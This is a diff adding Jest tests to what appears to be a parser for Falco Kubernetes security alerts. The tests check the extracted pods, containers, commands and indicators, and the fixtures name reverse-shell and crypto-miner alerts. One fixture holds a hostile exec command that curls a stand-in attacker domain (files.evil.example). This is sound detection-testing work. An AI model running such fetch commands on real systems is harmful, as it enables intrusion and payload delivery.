@@ -157,6 +157,35 @@ describe('whom an alert is about', () => {
     expect(alertIn('rw-k8saudit-na-string-jevt-time')).not.toHaveProperty('pod');
   });
 
+  test('is the pod that the API server has named, of rules that give no resource', () => {
+    expect(alertIn('rw-k8saudit-create-privileged-pod').pod).toEqual({ namespace: 'shop', name: 'miner-7x2kq' });
+    expect(alertIn('rw-k8saudit-port-forward').pod).toEqual({ namespace: 'shop', name: 'cart-1' });
+    const made = (fields: object) =>
+      decode({ source: 'k8s_audit', output_fields: { 'ka.target.namespace': 'shop', 'ka.resp.name': 'x', ...fields } });
+    expect(made({ 'ka.target.resource': 'deployments' })).toMatchObject({ workload: { kind: 'Deployment', name: 'x' } });
+    for (const fields of [
+      {},
+      { 'ka.req.pod.containers.image': null, 'ka.req.pod.host_network': ['<NA>'] },
+      { 'ka.target.resource': 'services', 'ka.req.pod.host_network': 'false' },
+    ]) {
+      expect(made(fields)).not.toHaveProperty('pod');
+    }
+  });
+
+  test('is the container of an exec, with the command that runs there, from the request', () => {
+    expect(alertIn('rw-k8saudit-exec')).toMatchObject({
+      pod: { namespace: 'shop', name: 'cart-1' },
+      container: { name: 'app' },
+      process: { commandLine: 'sh -c curl files.evil.example/a', user: 'eve' },
+      observables: expect.arrayContaining([{ type: 'domain', value: 'files.evil.example' }]),
+    });
+    const short = { 'ka.uri.param[command]': 'id', 'ka.uri.param[container]': 'app' };
+    expect(decode({ source: 'k8s_audit', output_fields: short })).toMatchObject({
+      container: { name: 'app' },
+      process: { commandLine: 'id' },
+    });
+  });
+
   test('is no node when the hostname is the name of the Falco pod', () => {
     expect(alertIn('rw-null-k8s-container-not-yet-resolved')).not.toHaveProperty('node');
     expect(decode({ hostname: 'falco-x7k2p' })).not.toHaveProperty('node');
@@ -165,6 +194,19 @@ describe('whom an alert is about', () => {
 });
 
 describe('fields', () => {
+  test('give what the command line connects to, IPv4 by its own name, and ids that stand in longer tags', () => {
+    const alert = alertIn('rw-reverse-shell-docker-hostname');
+    expect(alert).toMatchObject({
+      observables: [
+        { type: 'ip', value: '203.0.113.9' },
+        { type: 'user', value: 'root' },
+      ],
+      mitre: ['T1562', 'TA0011', 'TA0112'],
+    });
+    // Docker's name for a container's host.
+    expect(alert).not.toHaveProperty('node');
+  });
+
   test('give both ends of a connection', () => {
     const { observables } = alertIn('rw-null-k8s-container-not-yet-resolved');
     expect(observables.filter(({ type }) => type === 'ip').map(({ value }) => value)).toEqual(['10.1.2.3', '198.51.100.7']);
